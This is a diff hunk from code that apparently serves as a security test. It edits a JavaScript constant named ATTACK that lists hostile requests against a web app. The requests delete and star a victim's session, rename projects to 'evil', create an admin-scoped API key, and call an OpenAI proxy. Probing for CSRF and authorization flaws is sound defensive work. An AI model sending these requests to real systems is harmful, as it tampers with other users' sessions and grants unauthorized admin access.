@@ -46,7 +46,9 @@ ATTACK = """async ([base, key, patience]) => {
     "/api/self", "/api/keys", "/sessions/victim", "/api/proxy/openai/v1/models", "/sign-in",
     "/settings", "/api/proxy/openai/v1/models?key=1"];
   const changes = [["POST", "/api/proxy/openai/v1/chat/completions", body],
-    ["DELETE", "/api/sessions/victim", null], ["PATCH", "/api/projects/default", '{"name":"evil"}'],
+    ["DELETE", "/api/sessions/victim", null], ["PATCH", "/api/sessions/victim", '{"starred":true}'],
+    ["POST", "/sessions/victim/mark", "starred=true"], ["POST", "/sessions/victim/delete", "x=1"],
+    ["PATCH", "/api/projects/default", '{"name":"evil"}'],
     ["POST", "/api/projects", '{"name":"evil"}'],
     ["POST", "/api/keys", '{"name":"x","scope":"admin"}'],
     ["POST", "/api/events/tickets", ""], ["POST", "/sign-out", ""], ["POST", "/sign-in", "key=x"],
